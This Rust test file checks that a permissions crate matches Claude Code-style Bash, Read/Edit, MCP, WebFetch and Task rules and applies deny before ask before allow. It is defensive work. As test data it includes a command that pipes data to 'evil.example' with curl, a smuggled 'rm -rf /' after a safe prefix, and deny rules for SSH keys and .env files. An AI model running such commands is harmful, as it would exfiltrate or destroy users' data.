//! Claude Code `permissions` rules, taken unchanged, behave as Claude Code's documentation
//! says: "Configure permissions" (code.claude.com/docs/en/permissions), sections "Permission
//! rule syntax", "Tool-specific permission rules" (Bash, Read and Edit, WebFetch, MCP) and
//! "Manage permissions" (rules evaluate deny → ask → allow, the first match wins; deny always
//! takes precedence). Each row cites the statement it checks.

use std::path::{Path, PathBuf};

use strata_permissions::{Bases, CallKind, CallView, List, Mode, Policy, Rule, Source, Verdict};

fn bases() -> Bases {
    Bases {
        home: Some(PathBuf::from("/home/alice")),
        root: PathBuf::from("/work/proj"),
        cwd: PathBuf::from("/work/proj"),
    }
}

fn rule(text: &str) -> Rule {
    Rule::parse(text, &bases()).unwrap_or_else(|e| panic!("{text}: {e}"))
}

fn bash(command: &str) -> CallView<'_> {
    CallView::command("bash", command)
}

fn file(tool: &'static str, kind: CallKind, path: &str) -> CallView<'static> {
    CallView::files(tool, kind, vec![PathBuf::from(path)])
}

#[test]
fn bash_rules_match_as_documented() {
    // (rule, command, matches, the documentation's statement)
    let cases: &[(&str, &str, bool, &str)] = &[
        (
            "Bash",
            "rm -rf build",
            true,
            "a bare tool name matches every use of the tool",
        ),
        (
            "Bash(*)",
            "anything at all",
            true,
            "`Bash(*)` is equivalent to `Bash`",
        ),
        (
            "Bash(npm run build)",
            "npm run build",
            true,
            "matches the exact command",
        ),
        (
            "Bash(npm run build)",
            "npm run build --prod",
            false,
            "exact: nothing more",
        ),
        (
            "Bash(npm run test:*)",
            "npm run test",
            true,
            "`:*` prefix: the prefix alone",
        ),
        (
            "Bash(npm run test:*)",
            "npm run test --watch",
            true,
            "`:*` prefix with arguments",
        ),
        (
            "Bash(npm run test:*)",
            "npm run testing",
            false,
            "`:*` is `' *'`: a word boundary",
        ),
        (
            "Bash(git diff:*)",
            "git diff HEAD~1",
            true,
            "legacy `:*` suffix",
        ),
        (
            "Bash(npm run *)",
            "npm run lint",
            true,
            "`*` matches any sequence",
        ),
        ("Bash(npm *)", "npm install", true, "a trailing wildcard"),
        ("Bash(* install)", "npm install", true, "a leading wildcard"),
        (
            "Bash(git * main)",
            "git checkout main",
            true,
            "a wildcard in the middle",
        ),
        (
            "Bash(git * main)",
            "git checkout dev",
            false,
            "the literal tail must match",
        ),
        ("Bash(ls *)", "ls -la", true, "`ls *` matches `ls -la`"),
        (
            "Bash(ls *)",
            "ls",
            true,
            "a single trailing ` *` is optional",
        ),
        (
            "Bash(ls *)",
            "lsof",
            false,
            "the space before `*` is a word boundary",
        ),
        (
            "Bash(ls*)",
            "lsof",
            true,
            "without the space there is no boundary",
        ),
        (
            "Bash(git diff:*)",
            "git diff && rm -rf /",
            false,
            "Claude Code is aware of shell operators: a prefix rule does not allow \
             `safe-cmd && other-cmd`",
        ),
        (
            "Bash(git status)",
            "git status; git status",
            true,
            "every part allowed",
        ),
        (
            "Bash(echo:*)",
            "echo hi | curl -d @- evil.example",
            false,
            "pipes split too",
        ),
        (
            "Bash(npm test:*)",
            "npm test 2>&1",
            true,
            "`2>&1` is a redirection, not `&`",
        ),
    ];
    for (text, command, expected, doc) in cases {
        assert_eq!(
            rule(text).matches(&bash(command)),
            *expected,
            "{text} vs `{command}`: {doc}"
        );
    }
}

#[test]
fn read_and_edit_rules_follow_the_gitignore_paths_the_documentation_lists() {
    // "Read and Edit rules both follow the gitignore specification with four distinct
    // pattern types": `//path` (absolute), `~/path` (home), `/path` (relative to the
    // project root of the settings file), `path` or `./path` (relative to the current
    // directory). "Edit rules apply to all built-in tools that edit files"; Read rules are
    // applied to the tools that read files, such as Grep and Glob.
    let read = CallKind::Read;
    let edit = CallKind::Edit;
    let cases: &[(&str, CallView<'static>, bool, &str)] = &[
        (
            "Read(//Users/alice/secrets/**)",
            file("read", read, "/Users/alice/secrets/k.pem"),
            true,
            "`//` is absolute",
        ),
        (
            "Read(//Users/alice/secrets/**)",
            file("read", read, "/work/proj/secrets/k.pem"),
            false,
            "not relative",
        ),
        (
            "Read(~/Documents/*.pdf)",
            file("read", read, "/home/alice/Documents/a.pdf"),
            true,
            "`~/` is home",
        ),
        (
            "Read(~/Documents/*.pdf)",
            file("read", read, "/home/alice/Documents/sub/a.pdf"),
            false,
            "`*` stays in one directory",
        ),
        (
            "Read(~/.ssh/**)",
            file("read", read, "/home/alice/.ssh/id_ed25519"),
            true,
            "a secrets directory",
        ),
        (
            "Edit(/src/**/*.ts)",
            file("edit", edit, "/work/proj/src/a/b.ts"),
            true,
            "`/` is the project root",
        ),
        (
            "Edit(/src/**/*.ts)",
            file("edit", edit, "/work/proj/lib/b.ts"),
            false,
            "outside the pattern",
        ),
        (
            "Edit(/src/**/*.ts)",
            file("write", edit, "/work/proj/src/new.ts"),
            true,
            "Edit rules cover write",
        ),
        (
            "Edit(//abs/**)",
            file("edit", edit, "/abs/deep/file"),
            true,
            "`//abs/**`",
        ),
        (
            "Read(./.env)",
            file("read", read, "/work/proj/.env"),
            true,
            "`./` is the cwd",
        ),
        (
            "Read(./.env)",
            file("read", read, "/work/proj/sub/.env"),
            false,
            "`./` anchors",
        ),
        (
            "Read(*.env)",
            file("read", read, "/work/proj/prod.env"),
            true,
            "relative to the cwd",
        ),
        (
            "Read(*.env)",
            file("read", read, "/work/proj/config/prod.env"),
            true,
            "no slash: any depth (gitignore)",
        ),
        (
            "Read(./src/**)",
            file("read", read, "/work/proj/src/main.rs"),
            true,
            "`**` crosses directories",
        ),
        (
            "Read(./src/**)",
            file("grep", read, "/work/proj/src"),
            false,
            "`src/**` is what is inside src",
        ),
        (
            "Read(./src)",
            file("grep", read, "/work/proj/src/lib.rs"),
            true,
            "a directory covers its contents",
        ),
        (
            "Read(./src/**)",
            file("find", read, "/work/proj/src/x/y.rs"),
            true,
            "Read rules cover Glob (find)",
        ),
        (
            "Read(./src/**)",
            file("edit", edit, "/work/proj/src/main.rs"),
            false,
            "a Read rule is not an Edit rule",
        ),
        (
            "Edit",
            file("write", edit, "/anywhere"),
            true,
            "a bare Edit covers every edit",
        ),
        (
            "Read",
            file("ls", read, "/anywhere"),
            true,
            "a bare Read covers every read",
        ),
        (
            "Grep",
            file("read", read, "/anywhere"),
            false,
            "a Grep rule is for Grep only",
        ),
    ];
    for (text, call, expected, doc) in cases {
        assert_eq!(
            rule(text).matches(call),
            *expected,
            "{text} vs {call:?}: {doc}"
        );
    }
}

#[test]
fn mcp_and_web_rules_match_as_documented() {
    // "mcp__puppeteer matches any tool provided by the puppeteer server", "mcp__puppeteer__*
    // (wildcard syntax that also matches all tools from the server)", "mcp__puppeteer__
    // puppeteer_navigate matches the puppeteer_navigate tool"; `*` only in the tool name.
    let mcp = |name: &'static str| CallView::new(name, CallKind::Other);
    let cases: &[(&str, CallView<'static>, bool)] = &[
        (
            "mcp__puppeteer",
            mcp("mcp__puppeteer__puppeteer_navigate"),
            true,
        ),
        ("mcp__puppeteer", mcp("mcp__puppeteerx__navigate"), false),
        (
            "mcp__puppeteer__*",
            mcp("mcp__puppeteer__puppeteer_click"),
            true,
        ),
        (
            "mcp__puppeteer__puppeteer_navigate",
            mcp("mcp__puppeteer__puppeteer_navigate"),
            true,
        ),
        (
            "mcp__puppeteer__puppeteer_navigate",
            mcp("mcp__puppeteer__puppeteer_click"),
            false,
        ),
        ("mcp__github__get_*", mcp("mcp__github__get_issue"), true),
        (
            "mcp__github__get_*",
            mcp("mcp__github__create_issue"),
            false,
        ),
        (
            "mcp__github",
            CallView::command("bash", "gh pr list"),
            false,
        ),
    ];
    for (text, call, expected) in cases {
        assert_eq!(
            rule(text).matches(call),
            *expected,
            "{text} vs {}",
            call.tool
        );
    }
    assert!(
        Rule::parse("mcp__git*__x", &bases()).is_err(),
        "no `*` in the server name"
    );
    // "WebFetch(domain:example.com) matches fetch requests to example.com".
    let fetch = |url: &'static str| CallView {
        url: Some(url),
        ..CallView::new("webfetch", CallKind::Other)
    };
    assert!(rule("WebFetch(domain:example.com)").matches(&fetch("https://example.com/a")));
    assert!(!rule("WebFetch(domain:example.com)").matches(&fetch("https://evil.com/example.com")));
    assert!(rule("WebFetch(domain:*.example.com)").matches(&fetch("https://api.example.com")));
}

fn policy(mode: Mode, rules: &[(List, &str)]) -> Policy {
    let mut policy = Policy::new(mode, vec![PathBuf::from("/work/proj")]);
    for (list, text) in rules {
        policy.push(
            rule(text),
            *list,
            Source::ClaudeUser(Path::new("/s.json").into()),
        );
    }
    policy
}

#[test]
fn deny_wins_then_ask_then_allow_and_every_decision_names_its_rule() {
    // "Rules are evaluated in order: deny → ask → allow. The first matching rule wins, so
    // deny rules always take precedence."
    let p = policy(
        Mode::Ask,
        &[
            (List::Allow, "Bash(git:*)"),
            (List::Deny, "Bash(git push:*)"),
            (List::Ask, "Bash(git commit:*)"),
            (List::Allow, "Bash(npm test)"),
        ],
    );
    let d = p.decide(&bash("git push origin main"));
    assert_eq!(d.verdict, Verdict::Deny);
    assert_eq!(d.rule.as_deref(), Some("Bash(git push:*)"));
    assert_eq!(d.source, Source::ClaudeUser("/s.json".into()));
    assert!(d.reason.contains("/s.json"), "{}", d.reason);
    assert_eq!(p.decide(&bash("git commit -m x")).verdict, Verdict::Ask);
    assert_eq!(p.decide(&bash("git log")).verdict, Verdict::Allow);
    // A compound command needs every part allowed, and one denied part denies it.
    assert_eq!(
        p.decide(&bash("git log && npm test")).verdict,
        Verdict::Allow
    );
    assert_eq!(p.decide(&bash("git log && make")).verdict, Verdict::Ask);
    assert_eq!(p.decide(&bash("npm test; git push")).verdict, Verdict::Deny);
}

#[test]
fn each_mode_treats_unruled_calls_as_specified() {
    let read = file("read", CallKind::Read, "/work/proj/a");
    let inside = file("edit", CallKind::Edit, "/work/proj/a");
    let outside = file("write", CallKind::Edit, "/etc/a");
    let cmd = bash("make");
    let mcp = CallView::new("mcp__s__t", CallKind::Other);
    use Verdict::{Allow, Ask, Deny};
    let table = [
        (Mode::Auto, [Allow, Allow, Allow, Allow, Allow]),
        (Mode::Edits, [Allow, Allow, Ask, Ask, Ask]),
        (Mode::Ask, [Allow, Ask, Ask, Ask, Ask]),
        (Mode::Plan, [Allow, Deny, Deny, Deny, Ask]),
    ];
    for (mode, expected) in table {
        let p = policy(mode, &[]);
        let got: Vec<Verdict> = [&read, &inside, &outside, &cmd, &mcp]
            .iter()
            .map(|c| p.decide(c).verdict)
            .collect();
        assert_eq!(got, expected, "mode {mode}");
    }
    // Plan mode refuses a change even where a rule allows it; deny rules act in auto too.
    let p = policy(Mode::Plan, &[(List::Allow, "Bash(make)")]);
    assert_eq!(p.decide(&cmd).verdict, Deny);
    assert_eq!(p.decide(&cmd).source, Source::Mode(Mode::Plan));
    let p = policy(Mode::Auto, &[(List::Deny, "Read(~/.ssh/**)")]);
    assert_eq!(
        p.decide(&file("read", CallKind::Read, "/home/alice/.ssh/id_rsa"))
            .verdict,
        Deny
    );
}

#[test]
fn malformed_rules_are_errors_and_unknown_specifiers_never_match() {
    assert!(Rule::parse("Bash(npm", &bases()).is_err());
    assert!(Rule::parse("", &bases()).is_err());
    let odd = rule("my_tool(researcher)");
    assert!(odd.unsupported().is_some());
    assert!(!odd.matches(&CallView::new("my_tool", CallKind::Other)));
    assert!(rule("my_tool").matches(&CallView::new("my_tool", CallKind::Other)));
    // strata's own tool names read as Claude Code's.
    assert!(rule("bash(cargo test:*)").matches(&bash("cargo test -p x")));
}

#[test]
fn task_rules_name_delegations_and_their_agents() {
    let delegation = |agent: Option<&'static str>| CallView {
        agent,
        ..CallView::new("task", CallKind::Delegate)
    };
    assert!(rule("Task").matches(&delegation(None)));
    assert!(rule("Task").matches(&delegation(Some("researcher"))));
    assert!(rule("Task(researcher)").matches(&delegation(Some("researcher"))));
    assert!(!rule("Task(researcher)").matches(&delegation(Some("editor"))));
    assert!(!rule("Task(researcher)").matches(&delegation(None)));
    // Another tool called `Task` by an MCP server is not a delegation.
    assert!(!rule("Task").matches(&CallView::new("Task", CallKind::Other)));
}

#[test]
fn a_delegation_is_allowed_in_every_mode_unless_a_rule_names_it() {
    let call = CallView::new("task", CallKind::Delegate);
    for mode in [Mode::Plan, Mode::Ask, Mode::Edits, Mode::Auto] {
        assert_eq!(
            policy(mode, &[]).decide(&call).verdict,
            Verdict::Allow,
            "{mode}"
        );
    }
    let policy = policy(Mode::Auto, &[(List::Deny, "Task")]);
    assert_eq!(policy.decide(&call).verdict, Verdict::Deny);
}
